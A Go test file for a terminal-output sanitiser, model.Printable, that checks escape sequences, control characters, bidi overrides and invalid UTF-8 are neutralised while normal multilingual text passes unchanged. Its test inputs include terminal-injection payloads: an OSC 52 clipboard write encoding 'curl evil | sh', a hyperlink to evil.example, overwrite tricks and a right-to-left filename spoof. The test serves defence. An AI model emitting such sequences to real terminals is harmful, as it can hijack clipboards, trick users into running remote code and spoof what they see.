package model_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/keydesk/keydesk/model"
)

// tUnsafeOnTerminal reports what must never reach a terminal from data:
// C0 controls, DEL, C1 controls, bidi controls and marks.
func tUnsafeOnTerminal(r rune) bool {
	switch {
	case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
		return true
	case r == 0x061c, r == 0x200e, r == 0x200f,
		r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
		return true
	}
	return false
}

func tCheckSafe(t *testing.T, in, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("Printable(%q) = %q is not valid UTF-8", in, out)
	}
	for _, r := range out {
		if tUnsafeOnTerminal(r) {
			t.Errorf("Printable(%q) = %q keeps %U", in, out, r)
		}
	}
}

func TestPrintableNeutralises(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
	}{
		{"clear screen", "\x1b[2J", "␛[2J"},
		{"clear screen in a name", "Jane\x1b[2J\x1b[HDoe", "Jane␛[2J␛[HDoe"},
		{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", "␛]52;c;Y3VybCBldmlsIHwgc2g=␇"},
		{"OSC 52 with ST", "\x1b]52;c;aGk=\x1b\\", "␛]52;c;aGk=␛\\"},
		{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\", "␛]8;;https://evil.example/␛\\click me␛]8;;␛\\"},
		{"title set", "\x1b]0;pwned\x07", "␛]0;pwned␇"},
		{"C1 CSI", "\u009b2J", "�2J"},
		{"C1 OSC", "\u009d52;c;aGk=\u009c", "�52;c;aGk=�"},
		{"C1 NEL", "a\u0085b", "a�b"},
		{"DEL", "a\x7fb", "a␡b"},
		{"NUL", "a\x00b", "a␀b"},
		{"BEL", "\x07", "␇"},
		{"backspace overwrite", "admin\x08\x08\x08\x08\x08guest", "admin␈␈␈␈␈guest"},
		{"CR overwrite", "ok\rEVIL", "ok␍EVIL"},
		{"newline", "a\nb", "a␊b"},
		{"tab", "a\tb", "a␉b"},
		{"RLO", "invoice\u202egpj.exe", "invoice�gpj.exe"},
		{"LRI PDI", "\u2066x\u2069", "�x�"},
		{"all bidi", "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", strings.Repeat("�", 12)},
		{"invalid UTF-8", "a\xffb\xc3", "a�b�"},
		{"lone continuation", "\x80\xbf", "��"},
		{"overlong encoding of ESC", "\xc0\x9b", "��"},
		{"encoded surrogate", "\xed\xa0\x80", "���"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := model.Printable(tc.in)
			if got != tc.want {
				t.Errorf("Printable(%q) = %q, want %q", tc.in, got, tc.want)
			}
			tCheckSafe(t, tc.in, got)
			if strings.ContainsRune(got, 0x1b) {
				t.Errorf("ESC survives in %q", got)
			}
		})
	}
}

func TestPrintableLeavesTextAlone(t *testing.T) {
	for _, s := range []string{
		"", "Jane Doe", "jane.doe+keys@example.com", "O'Brien-Smith", "Zoë Ñúñez", "München", "Łódź",
		"山田太郎", "김민준", "Владимир", "Ελένη", "שלום", "مرحبا", "🔑 key", "a — b", "100 %", "[2J", "]52;c;",
		"\u00a0no-break space", "zero\u200bwidth", "combining e\u0301",
	} {
		if got := model.Printable(s); got != s {
			t.Errorf("Printable(%q) = %q, want it unchanged", s, got)
		}
	}
}

// Every rune, alone and inside text, comes out safe; every safe rune comes
// out as itself.
func TestPrintableEveryRune(t *testing.T) {
	for r := rune(0); r <= 0x3000; r++ {
		in := "a" + string(r) + "b"
		out := model.Printable(in)
		tCheckSafe(t, in, out)
		if !tUnsafeOnTerminal(r) && r != utf8.RuneError && out != in {
			t.Errorf("Printable(%q) = %q, want unchanged", in, out)
		}
		if tUnsafeOnTerminal(r) && out == in {
			t.Errorf("Printable(%q) left %U as is", in, r)
		}
	}
	for b := 0; b < 256; b++ {
		in := string([]byte{'x', byte(b), 'y'})
		tCheckSafe(t, in, model.Printable(in))
	}
}

func FuzzPrintable(f *testing.F) {
	for _, s := range []string{"\x1b[2J", "\x1b]52;c;aGk=\x07", "\u009b", "\u202e", "\xff", "plain", "山田"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := model.Printable(s)
		tCheckSafe(t, s, out)
		if model.Printable(out) != out {
			t.Errorf("Printable is not idempotent on %q", s)
		}
	})
}
